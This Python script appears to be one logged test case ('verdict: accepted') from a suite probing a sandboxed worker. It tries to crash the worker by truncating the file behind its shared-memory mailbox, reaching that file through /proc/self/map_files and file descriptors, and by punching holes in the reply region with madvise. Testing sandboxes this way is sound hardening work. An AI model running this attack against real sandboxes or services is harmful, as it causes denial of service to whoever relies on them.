# tries: to crash the worker by making the mailbox's file shorter through its mapping
# entry: calls
# verdict: accepted

import ctypes
import os


def mailbox():
    for line in open("/proc/self/maps"):
        if "mailbox" in line:
            return int(line.split("-")[0], 16)
    raise SystemExit("the mailbox has another name")


HEAD = mailbox()
REPLY = HEAD + 4096 + (256 << 20)


def poke(at, data):
    ctypes.memmove(at, data, len(data))
    assert ctypes.string_at(at, 1) == data[:1]


def head(reply, size):
    ctypes.c_uint64.from_address(HEAD + 16).value = size
    ctypes.c_uint32.from_address(HEAD + 4).value = reply


def posted():
    return ctypes.c_uint32.from_address(HEAD).value


def wake():
    os.write(1000, (1).to_bytes(8, "little"))


import glob


def answer(n):
    tried = 0
    for path in [*glob.glob("/proc/self/map_files/*"), *glob.glob("/proc/self/fd/*"), "/proc/self/map_files/%x-%x" % (HEAD, REPLY + (65 << 20))]:
        try:
            with open(path, "r+b", buffering=0) as file:
                if "mailbox" in os.readlink(path):
                    file.truncate(0)
                    return None
        except OSError:
            tried += 1
    libc = ctypes.CDLL(None, use_errno=True)
    libc.madvise(ctypes.c_void_p(REPLY), ctypes.c_size_t(65 << 20), 9)
    return n + 1 if tried else None
